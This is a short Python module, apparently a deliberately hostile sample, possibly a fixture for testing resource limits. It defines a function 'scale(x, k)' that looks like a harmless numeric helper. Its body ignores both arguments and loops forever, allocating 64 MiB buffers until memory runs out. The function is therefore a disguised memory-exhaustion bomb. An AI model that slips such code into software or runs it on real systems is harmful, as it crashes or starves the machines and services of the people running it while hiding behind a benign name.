from calc.good import Counter, SPEED, add, mean  # noqa: F401


def scale(x, k):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))
